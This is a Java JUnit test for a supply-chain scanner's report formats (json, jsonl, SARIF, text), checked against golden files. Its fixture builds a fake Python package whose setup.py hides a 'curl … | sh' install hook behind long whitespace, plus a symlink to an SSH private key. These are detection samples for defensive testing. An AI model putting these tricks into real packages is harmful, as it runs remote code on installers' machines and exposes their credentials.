package dev.chainhunt.report;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.chainhunt.ScanOptions;
import dev.chainhunt.ScanResult;
import dev.chainhunt.Scanner;
import dev.chainhunt.Version;
import dev.chainhunt.fixtures.FixtureArchive;
import dev.chainhunt.fixtures.FixtureArchive.Entry;
import dev.chainhunt.model.Target;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The json, jsonl and sarif outputs of a fixed scan are compared with golden files, so any change
 * to the output contract shows up in review. Regenerate with {@code -Dgolden.update=true}.
 */
class ReportGoldenTest {

    private static final Path GOLDEN = Path.of("src/test/resources/golden");
    private static final Scanner SCANNER = new Scanner(ScanOptions.defaults());

    static List<ScanResult> results() throws IOException {
        byte[] sdist = FixtureArchive.tar(List.of(
                Entry.file("demo-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
                Entry.file("demo-1.0/setup.py", "from setuptools import setup\nimport os" + " ".repeat(300)
                        + ";os.system('curl -s https://example.invalid/p | sh')\nsetup(name='demo')\n"),
                Entry.symlink("demo-1.0/key", "/home/user/.ssh/id_rsa")), "tar.gz");
        return List.of(
                SCANNER.scan(Target.of("dist/demo-1.0.tar.gz", sdist)),
                SCANNER.scan(Target.of("tool.py", "print('hello')\n".getBytes(StandardCharsets.UTF_8))),
                SCANNER.scan(Target.of(Path.of("missing/thing-2.0.whl"))));
    }

    private static String render(String format) throws IOException {
        Reporter reporter = Reporters.create(format, false, SCANNER.catalog());
        StringWriter out = new StringWriter();
        for (ScanResult r : results()) {
            reporter.add(r, out);
        }
        reporter.finish(out);
        return out.toString().replace(Version.get(), "VERSION");
    }

    private static void assertGolden(String format, String file) throws IOException {
        String actual = render(format);
        Path golden = GOLDEN.resolve(file);
        if (Boolean.getBoolean("golden.update")) {
            Files.writeString(golden, actual, StandardCharsets.UTF_8);
        }
        assertThat(actual).as("%s differs from %s (rerun with -Dgolden.update=true if the change is intended)",
                format, golden).isEqualTo(Files.readString(golden, StandardCharsets.UTF_8));
    }

    @Test
    void json() throws IOException {
        assertGolden("json", "report.json");
    }

    @Test
    void jsonl() throws IOException {
        assertGolden("jsonl", "report.jsonl");
        for (String line : render("jsonl").split("\n")) {
            assertThat(new ObjectMapper().readTree(line).get("target").asText()).isNotEmpty();
        }
    }

    @Test
    void sarif() throws IOException {
        assertGolden("sarif", "report.sarif");
    }

    @Test
    void text() throws IOException {
        assertGolden("text", "report.txt");
    }

    @Test
    void sarifMeetsWhatGitHubCodeScanningRequires() throws IOException {
        JsonNode log = new ObjectMapper().readTree(render("sarif"));
        assertThat(log.get("version").asText()).isEqualTo("2.1.0");
        assertThat(log.get("$schema").asText()).contains("sarif-2.1.0");
        JsonNode run = log.get("runs").get(0);
        JsonNode rules = run.get("tool").get("driver").get("rules");
        assertThat(rules.size()).isEqualTo(SCANNER.catalog().all().size());
        assertThat(run.get("results").size()).isGreaterThan(0);
        for (JsonNode result : run.get("results")) {
            int index = result.get("ruleIndex").asInt();
            assertThat(rules.get(index).get("id").asText()).isEqualTo(result.get("ruleId").asText());
            assertThat(result.get("level").asText()).isIn(Set.of("error", "warning", "note"));
            assertThat(result.get("message").get("text").asText()).isNotBlank();
            JsonNode physical = result.get("locations").get(0).get("physicalLocation");
            assertThat(physical.get("region").get("startLine").asInt()).isGreaterThanOrEqualTo(1);
            assertThat(physical.get("artifactLocation").get("uri").asText()).doesNotContain(" ", "\\");
        }
        for (JsonNode rule : rules) {
            assertThat(Double.parseDouble(rule.get("properties").get("security-severity").asText())).isBetween(0.0, 10.0);
        }
    }

    @Test
    void artifactUrisPointIntoArchivesAndDirectories() throws IOException {
        List<ScanResult> rs = results();
        assertThat(SarifReporter.artifactUri(rs.get(0), "demo-1.0/setup.py")).isEqualTo("dist/demo-1.0.tar.gz!/demo-1.0/setup.py");
        assertThat(SarifReporter.artifactUri(rs.get(1), "tool.py")).isEqualTo("tool.py");
        assertThat(SarifReporter.encode("a b/ü.py")).isEqualTo("a%20b/%C3%BC.py");
    }
}
